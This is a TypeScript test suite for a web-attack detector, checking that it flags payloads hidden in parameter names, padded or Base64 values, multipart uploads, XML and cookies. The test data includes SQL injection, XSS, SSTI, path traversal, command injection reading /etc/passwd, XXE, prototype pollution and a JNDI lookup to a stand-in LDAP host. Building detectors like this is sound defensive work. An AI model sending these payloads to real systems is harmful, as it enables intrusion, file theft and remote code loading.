// How a request is read: no part of it is a blind spot. Parameter names, the tail of long values,
// Base64-wrapped values, multipart parts and XML values are scanned like any other value.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createDetector, detect } from '@secotel/detect';
import type { DetectRequest } from '@secotel/detect';

const SQLI = "' UNION SELECT password FROM users--";
const XSS = '<script>alert(document.cookie)</script>';

function found(request: DetectRequest): string[] {
  return detect(request).map((f) => `${f.rule.category}@${f.location}`);
}

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');

describe('parameter names', () => {
  it('scans query parameter names like values', () => {
    assert.deepEqual(found({ query: { [SQLI]: '' } }), [`sqli@query.${SQLI}`]);
    assert.deepEqual(found({ query: { [XSS]: '1' } }), [`xss@query.${XSS}`]);
  });

  it('scans names of urlencoded and JSON body fields', () => {
    assert.deepEqual(found({ body: `${encodeURIComponent(SQLI)}=1` }), [`sqli@body.${SQLI}`]);
    assert.deepEqual(found({ body: { profile: { [XSS]: 'x' } } }), [`xss@body.profile.${XSS}`]);
  });

  it('reads a form body as a form by its content type, even when it has no "="', () => {
    assert.deepEqual(found({ body: encodeURIComponent(SQLI), headers: { 'content-type': 'application/x-www-form-urlencoded' } }), [`sqli@body.${SQLI}`]);
  });

  it('scans a text body that looks like a form both as a form and whole, unless its content type says form', () => {
    // The '=' inside the payload once split it into a name and a value and neither was a payload.
    const payload = '#set($x=$e.getClass().forName("java.lang.Runtime"))';
    assert.deepEqual(found({ body: payload, contentType: 'text/plain' }), ['ssti@body']);
    assert.deepEqual(found({ body: payload }), ['ssti@body']);
    // A form is what a form parser gives the application: name and value.
    assert.deepEqual(found({ body: payload, contentType: 'application/x-www-form-urlencoded' }), []);
    assert.deepEqual(found({ body: "q=1'+OR+'1'='1", contentType: 'text/plain' }), ['sqli@body.q']);
    assert.deepEqual(found({ body: 'name=alice&city=paris', contentType: 'text/plain' }), []);
  });

  it('scans cookie names, and a cookie without "=" as a value', () => {
    assert.deepEqual(found({ headers: { cookie: `theme=dark; ${XSS}=1` } }), [`xss@cookie.${XSS}`]);
    assert.deepEqual(found({ headers: { cookie: `theme=dark; ${XSS}` } }), ['xss@cookie.']);
    assert.deepEqual(found({ cookies: { [SQLI]: 'x' } }), [`sqli@cookie.${SQLI}`]);
  });

  it('leaves identifier-like names alone', () => {
    assert.deepEqual(found({ query: { 'items[0].sku': 'a', select: '1', union_id: '2', 'order-by': 'name' } }), []);
  });
});

describe('long values', () => {
  it('finds a payload after padding longer than the scan cap', () => {
    const padded = `${'a'.repeat(20_000)} ${SQLI}`;
    assert.deepEqual(found({ query: { q: padded } }), ['sqli@query.q']);
    assert.deepEqual(found({ body: { comment: `${'lorem ipsum '.repeat(2000)}${XSS}` } }), ['xss@body.comment']);
  });

  it('still finds a payload at the head, and reports a category once per value', () => {
    const both = `${SQLI} ${'b'.repeat(10_000)} ${SQLI}`;
    assert.deepEqual(found({ query: { q: both } }), ['sqli@query.q']);
  });

  it('honours a configured cap for both windows', () => {
    const detector = createDetector({ maxInputLength: 64 });
    const findings = detector.detect({ query: { q: `${'x'.repeat(500)}${SQLI}` } });
    assert.deepEqual(findings.map((f) => f.rule.category), ['sqli']);
  });
});

describe('Base64 values', () => {
  it('decodes Base64 and Base64URL values once and scans the text', () => {
    assert.deepEqual(found({ cookies: { state: b64(SQLI) } }), ['sqli@cookie.state']);
    assert.deepEqual(found({ query: { next: b64url(`"><img src=x onerror=alert(1)>`) } }), ['xss@query.next']);
    assert.deepEqual(found({ body: { data: b64(`${XSS} padding to be sure`) } }), ['xss@body.data']);
    // UTF-8 text beyond ASCII is text too.
    assert.deepEqual(found({ query: { msg: b64(`Grüße, café ${SQLI}`) } }), ['sqli@query.msg']);
  });

  it('ignores Base64 that decodes to binary, and plain words and ids', () => {
    const random = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 151 + 7) % 256)).toString('base64');
    assert.deepEqual(found({ cookies: { sid: random } }), []);
    // High bytes only, no control character, and not UTF-8 (0xc0 and 0xff never are).
    const highBinary = Buffer.from(Array.from({ length: 24 }, (_, i) => (i % 2 === 0 ? 0xff : 0xc0 + i))).toString('base64');
    assert.deepEqual(found({ query: { state: highBinary }, headers: { 'x-token': highBinary } }), []);
    assert.deepEqual(found({ query: { id: 'abcdefghijklmnopqrstuvwxyz', hex: 'deadbeefcafebabe0123456789abcdef' } }), []);
    assert.deepEqual(found({ query: { token: b64('{"user":"alice","exp":1767225600,"roles":["reader"]}') } }), []);
  });

  it('decodes only once: Base64 of Base64 is not unwrapped further', () => {
    assert.deepEqual(found({ query: { q: b64(b64(SQLI)) } }), []);
  });
});

describe('multipart bodies', () => {
  const boundary = '----secotelBoundary7MA4YWxkTrZu0gW';
  const multipart = (parts: string[]): string => `${parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('')}--${boundary}--\r\n`;
  const contentType = `multipart/form-data; boundary=${boundary}`;

  it('scans field values, field names and file names by part', () => {
    const body = multipart([
      'Content-Disposition: form-data; name="title"\r\n\r\nHoliday photos',
      `Content-Disposition: form-data; name="comment"\r\n\r\n${SQLI}`,
      'Content-Disposition: form-data; name="upload"; filename="../../../etc/cron.d/job"\r\nContent-Type: image/png\r\n\r\n\x89PNG...',
    ]);
    assert.deepEqual(found({ body, contentType }).sort(), ['path_traversal@body.upload.filename', 'sqli@body.comment']);
    assert.deepEqual(found({ body, headers: { 'content-type': contentType } }).sort(), ['path_traversal@body.upload.filename', 'sqli@body.comment']);
  });

  it('does not scan the content of uploaded binary files as parameters', () => {
    const body = multipart([`Content-Disposition: form-data; name="file"; filename="notes.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${SQLI}`]);
    assert.deepEqual(found({ body, contentType }), []);
  });

  it('falls back to scanning the text when the boundary is missing', () => {
    assert.deepEqual(found({ body: `x ${XSS}`, contentType: 'multipart/form-data; boundary=nope' }), ['xss@body']);
  });
});

describe('XML bodies', () => {
  it('scans attribute values and element text one by one, entities decoded', () => {
    assert.deepEqual(found({ body: '<?xml version="1.0"?><order><item sku="1 OR 1=1--">2</item></order>' }), ['sqli@body.sku']);
    // Escaped markup is already seen in the whole document, which XSS reads entity-decoded.
    assert.deepEqual(found({ body: '<?xml version="1.0"?><note><text>&lt;script&gt;alert(1)&lt;/script&gt;</text></note>' }), ['xss@body']);
    assert.deepEqual(found({ body: '<?xml version="1.0"?><search><term>x&apos; or &apos;1&apos;=&apos;1</term></search>' }), ['sqli@body.term']);
    assert.deepEqual(found({ body: `<root><![CDATA[${SQLI}]]></root>` }), ['sqli@body']);
  });

  it('judges the markup of a plain XML document only for markup attacks, its values for the rest', () => {
    const detector = createDetector({ level: 2 });
    const xml = (body: string) => detector.detect({ body, headers: { 'content-type': 'application/xml' } }).map((f) => `${f.rule.category}@${f.location}`);
    // The angle brackets of the markup are not shell redirections.
    assert.deepEqual(xml('<?xml version="1.0"?><root><a probe="&lt;script &gt;alert(1)"></a></root>'), ['xss@body']);
    assert.deepEqual(xml('<?xml version="1.0"?><q><![CDATA[1; cat /etc/passwd]]></q>').sort(), ['cmdi@body.q', 'path_traversal@body.q']);
    // Declarations are read whole too.
    assert.ok(xml('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>').includes('xxe@body'));
    // Element names become object keys in XML-to-object parsers.
    assert.deepEqual(xml('<r><__proto__><isAdmin>true</isAdmin></__proto__></r>'), ['proto_pollution@body']);
  });

  it('scans an XML document whole for everything when its values are not all it holds', () => {
    const xml = (body: string, maxValues?: number) => createDetector({ maxValues }).detect({ body, headers: { 'content-type': 'application/xml' } })
      .map((f) => `${f.rule.category}@${f.location}`).sort();
    const climb = '../../../../etc/passwd';
    // Lenient parsers read unquoted attribute values, and bare words in tags and instructions.
    assert.deepEqual(xml(`<f path=${climb}/>`), ['path_traversal@body']);
    assert.deepEqual(xml(`<?x ${climb}?><r/>`), ['path_traversal@body']);
    assert.deepEqual(xml('<x a=1;cat /etc/passwd>'), ['cmdi@body', 'path_traversal@body']);
    // A comment left open, and a tag left open.
    assert.deepEqual(xml(`<r>1</r><!-- ${climb}`), ['path_traversal@body']);
    assert.deepEqual(xml(`<r a="1" ${climb}`), ['path_traversal@body']);
    // More values than the scan has room for: the last ones are not scanned one by one.
    assert.deepEqual(xml(`<r><a>x</a><b>y</b><c>${climb}</c></r>`, 3), ['path_traversal@body']);
    assert.deepEqual(xml(`<r><a>x</a><b>y</b><c>${climb}</c></r>`), ['path_traversal@body.c']);
  });

  it('leaves ordinary XML documents alone', () => {
    assert.deepEqual(found({ body: '<?xml version="1.0"?><order id="17"><customer>O\'Brien &amp; Sons</customer><note>Leave at the door, or with the neighbour.</note></order>' }), []);
  });
});

describe('sensitivity levels', () => {
  it('defaults to level 1 and validates the option', () => {
    assert.equal(createDetector().options.level, 1);
    assert.equal(createDetector({ level: 3 }).options.level, 3);
    assert.throws(() => createDetector({ level: 4 as never }), { code: 'SECOTEL_ERR_DETECT_INVALID_OPTION' });
  });
});

describe('values that repeat across requests', () => {
  const attack = { method: 'GET', path: '/search', headers: { 'x-forwarded-host': XSS, cookie: `sid=${SQLI}`, accept: 'text/html' } };
  const expected = ['xss@header.x-forwarded-host', 'sqli@cookie.sid'];
  const shape = (findings: ReturnType<typeof detect>): string[] => findings.map((f) => `${f.rule.category}@${f.location}`).sort();

  it('give the same findings every time a detector sees them again', () => {
    const detector = createDetector();
    const first = detector.detect(attack);
    assert.deepEqual(shape(first), [...expected].sort());
    for (let i = 0; i < 3; i++) assert.deepEqual(detector.detect(attack), first);
  });

  it('are not changed by a caller that edits the findings it got', () => {
    const detector = createDetector();
    const first = detector.detect(attack) as { fragment: string; location: string }[];
    for (const f of first) {
      f.fragment = 'redacted';
      f.location = 'elsewhere';
    }
    assert.deepEqual(shape(detector.detect(attack)), [...expected].sort());
    assert.ok(detector.detect(attack).every((f) => f.fragment !== 'redacted'));
  });

  it('keep detecting after thousands of distinct values have passed (the memory of them is bounded)', () => {
    const detector = createDetector();
    for (let i = 0; i < 5000; i++) detector.detect({ path: `/items/${i}`, headers: { 'x-trace': `v${i}`, cookie: `sid=${i}` } });
    assert.deepEqual(shape(detector.detect(attack)), [...expected].sort());
    assert.deepEqual(detector.detect({ path: '/items/1', headers: { 'x-trace': 'v1', cookie: 'sid=1' } }), []);
  });

  it('in fixed-grammar headers do not hide a payload that replaces a clean value', () => {
    const detector = createDetector();
    const clean = { headers: { accept: 'text/html', 'accept-language': 'en-US,en;q=0.9' } };
    const jndi = { headers: { accept: 'text/html', 'accept-language': '${jndi:ldap://203.0.113.7/a}' } };
    assert.deepEqual(detector.detect(clean), []);
    assert.deepEqual(shape(detector.detect(jndi)), ['jndi@header.accept-language']);
    assert.deepEqual(detector.detect(clean), []);
    assert.deepEqual(shape(detector.detect(jndi)), ['jndi@header.accept-language']);
  });

  it('in a query string are placed at the parameter that carries them this time', () => {
    const detector = createDetector();
    const value = encodeURIComponent(SQLI);
    assert.deepEqual(shape(detector.detect({ query: `a=${value}` })), ['sqli@query.a']);
    assert.deepEqual(shape(detector.detect({ query: `page=2&b=${value}` })), ['sqli@query.b']);
    assert.deepEqual(detector.detect({ path: `/s?c=${value}` }), createDetector().detect({ path: `/s?c=${value}` }));
  });

  it('in a query string keep their verdicts after thousands of distinct search terms', () => {
    const detector = createDetector();
    for (let i = 0; i < 5000; i++) detector.detect({ query: `q=blue+shoes+size+${i}&sort=price`, headers: { 'user-agent': `agent ${i % 3}` } });
    assert.deepEqual(shape(detector.detect({ query: `q=${encodeURIComponent(SQLI)}` })), ['sqli@query.q']);
    assert.deepEqual(shape(detector.detect(attack)), [...expected].sort());
    assert.deepEqual(detector.detect({ query: 'q=blue+shoes+size+7&sort=price' }), []);
  });

  it('in a cookie header do not hide a payload added to a remembered clean one, across thousands of sessions', () => {
    const detector = createDetector();
    const session = { headers: { cookie: 'sid=4711def17d7d5ddb86e00dfcd785cbe6; theme=light' } };
    assert.deepEqual(detector.detect(session), []);
    assert.deepEqual(detector.detect(session), []);
    assert.deepEqual(shape(detector.detect({ headers: { cookie: `${session.headers.cookie}; pref=${SQLI}` } })), ['sqli@cookie.pref']);
    assert.deepEqual(shape(detector.detect({ headers: { cookie: `sid=${SQLI}; theme=light` } })), ['sqli@cookie.sid']);
    for (let i = 0; i < 10_000; i++) detector.detect({ headers: { cookie: `sid=${i.toString(16).padStart(32, '0')}; theme=light` } });
    assert.deepEqual(shape(detector.detect(attack)), [...expected].sort());
    assert.deepEqual(detector.detect(session), []);
  });

  it('in user agents keep their verdicts while thousands of distinct API paths pass', () => {
    const detector = createDetector();
    const agent = { path: '/api/items', headers: { 'user-agent': `Mozilla/5.0 ${XSS}` } };
    assert.deepEqual(shape(detector.detect(agent)), ['xss@header.user-agent']);
    for (let i = 0; i < 5000; i++) detector.detect({ path: `/files/report-${i}.pdf`, headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)' } });
    assert.deepEqual(shape(detector.detect(agent)), ['xss@header.user-agent']);
    assert.deepEqual(shape(detector.detect({ path: '/files/../../etc/passwd' })), ['path_traversal@path']);
    assert.deepEqual(detector.detect({ path: '/files/report-7.pdf' }), []);
  });

  it('are judged afresh in each path (a remembered clean path does not hide an attack in another)', () => {
    const detector = createDetector();
    assert.deepEqual(detector.detect({ path: '/files/report.pdf' }), []);
    assert.deepEqual(shape(detector.detect({ path: '/files/../../etc/passwd' })), ['path_traversal@path']);
    assert.deepEqual(shape(detector.detect({ path: '/files/../../etc/passwd' })), ['path_traversal@path']);
  });
});
